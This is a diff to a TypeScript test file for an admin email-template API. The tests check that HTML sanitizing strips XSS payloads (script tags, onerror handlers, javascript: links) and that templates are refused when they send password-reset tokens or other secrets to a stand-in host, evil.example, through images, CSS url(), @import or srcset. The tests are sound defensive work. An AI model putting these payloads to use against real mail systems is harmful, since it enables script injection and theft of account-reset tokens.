@@ -3,7 +3,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { EmailTemplates } from '../../../shared/contracts/templates';
 import { catalogues } from '../../../shared/messages';
 import { adminAuditLog, campaignTemplates, emailTemplates, partners, smsTemplates } from '../../db/schema';
-import { createTestApp, latestMail, signIn, TEST_ORIGIN } from '../../test/helpers';
+import { createTestApp, latestMail, signIn, TEST_ORIGIN, waitForMail } from '../../test/helpers';
 
 const tr = catalogues.tr.template;
 let ctx: Awaited<ReturnType<typeof createTestApp>>;
@@ -113,16 +113,16 @@ describe('PUT /api/admin/email-templates/{type}', () => {
       subject: 'Hoş geldiniz {{partnerName}}',
       htmlContent:
         '<table width="600" cellpadding="0"><tr><td style="color:#1e3a8a;padding:8px">Merhaba {{partnerName}}' +
-        '<script>alert(1)</script><img src="https://example.com/logo.png" onerror="alert(2)" alt="logo">' +
+        '<script>alert(1)</script><img src="/public-objects/logo.png" onerror="alert(2)" alt="logo">' +
         '<a href="javascript:alert(3)">kötü</a> <a href="{{actionUrl}}" onclick="x()">Panel</a>' +
-        '<div style="background:url(javascript:alert(4))">z</div></td></tr></table>',
+        '<div style="color:red;expression(alert(4))">z</div></td></tr></table>',
     });
     expect(res.statusCode).toBe(200);
     const html: string = res.json().htmlContent;
     expect(html).not.toMatch(/script|onerror|onclick|javascript:|alert/i);
     expect(html).toContain('<table width="600" cellpadding="0">');
     expect(html).toContain('style="color:#1e3a8a;padding:8px"');
-    expect(html).toContain('<img src="https://example.com/logo.png" alt="logo" />');
+    expect(html).toContain('<img src="/public-objects/logo.png" alt="logo" />');
     expect(html).toContain('<a href="{{actionUrl}}">Panel</a>');
     expect((await emailRow('partner_welcome', 'tr')).htmlContent).toBe(html);
   });
@@ -249,5 +249,128 @@ describe('builder library /api/admin/campaign-templates', () => {
     });
     expect(res.statusCode).toBe(400);
     expect(res.json().fieldErrors.name).toEqual(['Lütfen şablon adı girin']);
+  });
+});
+
+describe('mail HTML safety (issue 18)', () => {
+  const securityRow = async (type: 'password_reset' | 'email_verification', language: 'tr' | 'en' = 'tr') =>
+    (
+      await ctx.db
+        .select()
+        .from(emailTemplates)
+        .where(and(eq(emailTemplates.type, type), eq(emailTemplates.language, language)))
+    )[0]!;
+  const attack = '<p>Merhaba {{userName}}</p><img src="https://evil.example/c.gif?l={{resetLink}}">';
+
+  it('refuses the token-leaking image with 400 naming the element, storing nothing', async () => {
+    const before = await securityRow('password_reset');
+    const res = await api('PUT', '/api/admin/email-templates/password_reset', admin, {
+      subject: 'Şifre',
+      htmlContent: attack,
+    });
+    expect(res.statusCode).toBe(400);
+    expect(res.json()).toMatchObject({
+      code: 'TEMPLATE_UNSAFE_HTML',
+      message: expect.stringContaining('<img src> içinde {{resetLink}} kullanılamaz'),
+      fieldErrors: { htmlContent: [tr.unsafeHtmlField] },
+    });
+    expect(await securityRow('password_reset')).toEqual(before);
+  });
+
+  it('answers in English naming the remote host', async () => {
+    const res = await ctx.app.inject({
+      method: 'PUT',
+      url: '/api/admin/email-templates/quote_received',
+      headers: { origin: TEST_ORIGIN, cookie: admin, 'accept-language': 'en' },
+      payload: { subject: 'x', htmlContent: '<td background="https://evil.example/bg.png">{{partnerName}}</td>' },
+    });
+    expect(res.statusCode).toBe(400);
+    expect(res.json().message).toContain(
+      '<td background> loads content from an address that is not allowed (evil.example)',
+    );
+  });
+
+  it.each([
+    ['CSS url()', '<div style="background:url(https://evil.example/a.png)">x</div>', '<div style>'],
+    ['@import', '<style>@import "https://evil.example/a.css";</style><p>x</p>', '<style>'],
+    ['srcset', '<img src="/a.png" srcset="https://evil.example/b.png 2x">', '<img srcset>'],
+    ['background', '<table background="//evil.example/t.png"><tr><td>x</td></tr></table>', '<table background>'],
+  ])('refuses a remote %s on the builder library, storing nothing', async (_what, htmlContent, element) => {
+    const before = (await ctx.db.select().from(campaignTemplates)).length;
+    const res = await api('POST', '/api/admin/campaign-templates', editor, { name: 'n', subject: 's', htmlContent });
+    expect(res.statusCode).toBe(400);
+    expect(res.json().code).toBe('TEMPLATE_UNSAFE_HTML');
+    expect(res.json().message).toContain(element);
+    expect((await ctx.db.select().from(campaignTemplates)).length).toBe(before);
+  });
+
+  it('refuses a campaign draft with a secret in an image', async () => {
+    const res = await api('POST', '/api/admin/campaigns', admin, {
+      name: 'c',
+      subject: 's',
+      htmlContent: '<img src="/x.png?u={{unsubscribeUrl}}">',
+    });
+    expect(res.statusCode).toBe(400);
+    expect(res.json().message).toContain('<img src>');
+  });
+
+  it('lets an editor edit other types but not the account-security ones (403), a master admin can', async () => {
+    const before = await securityRow('password_reset');
+    const body = { subject: 'Şifre sıfırlama', htmlContent: '<p>{{userName}} <a href="{{resetLink}}">Sıfırla</a></p>' };
+    for (const type of ['password_reset', 'email_verification', 'security_alert', 'registration_pending']) {
+      const res = await api('PUT', `/api/admin/email-templates/${type}`, editor, body);
+      expect([type, res.statusCode, res.json().code]).toEqual([type, 403, 'FORBIDDEN']);
+    }
+    expect(await securityRow('password_reset')).toEqual(before);
+    const master = await api('PUT', '/api/admin/email-templates/password_reset', admin, body);
+    expect(master.statusCode).toBe(200);
+    expect(master.json().htmlContent).toBe('<p>{{userName}} <a href="{{resetLink}}">Sıfırla</a></p>');
+    const other = await api('PUT', '/api/admin/email-templates/quote_received', editor, {
+      subject: 'Talep',
+      htmlContent: '<p>{{partnerName}}</p>',
+    });
+    expect(other.statusCode).toBe(200);
+  });
+
+  it('accepts a host a master admin allowed; an editor cannot change the list (403)', async () => {
+    const htmlContent = '<img src="https://cdn.allowed.example/logo.png" alt=""><p>{{partnerName}}</p>';
+    let res = await api('PUT', '/api/admin/email-templates/quote_received', admin, { subject: 'x', htmlContent });
+    expect(res.statusCode).toBe(400);
+    const patch = (cookie: string, hosts: string[]) =>
+      ctx.app.inject({
+        method: 'PATCH',
+        url: '/api/admin/system-config',
+        headers: { origin: TEST_ORIGIN, cookie },
+        payload: { mail: { allowedResourceHosts: hosts } },
+      });
+    res = await patch(editor, ['cdn.allowed.example']);
+    expect(res.statusCode).toBe(403);
+    res = await patch(admin, ['https://cdn.allowed.example/x']);
+    expect(res.statusCode).toBe(400);
+    expect(res.json().fieldErrors['mail.allowedResourceHosts.0']).toEqual([catalogues.tr.settings.invalidHost]);
+    res = await patch(admin, [' CDN.Allowed.example ']);
+    expect(res.statusCode).toBe(200);
+    expect(res.json().mail).toEqual({ allowedResourceHosts: ['cdn.allowed.example'] });
+    res = await api('PUT', '/api/admin/email-templates/quote_received', admin, { subject: 'x', htmlContent });
+    expect(res.statusCode).toBe(200);
+  });
+
+  it('at send time leaves a secret empty outside <a href> and text, even in a template stored before the rule', async () => {
+    const [stored] = await ctx.db
+      .update(emailTemplates)
+      .set({ htmlContent: attack + '<a href="{{resetLink}}">Sıfırla</a>' })
+      .where(and(eq(emailTemplates.type, 'password_reset'), eq(emailTemplates.language, 'tr')))
+      .returning();
+    expect(stored).toBeDefined();
+    const res = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/auth/request-password-reset',
+      headers: { origin: TEST_ORIGIN, 'content-type': 'application/json' },
+      payload: { email: 'admin@demo.example.com' },
+    });
+    expect(res.statusCode).toBe(200);
+    const mail = await waitForMail(ctx.db, 'admin@demo.example.com', 'password_reset');
+    expect(mail?.html).toContain('<img src="https://evil.example/c.gif?l=">');
+    expect(mail?.html).toMatch(/<a href="[^"]*reset-password[^"]+">Sıfırla<\/a>/);
   });
 });
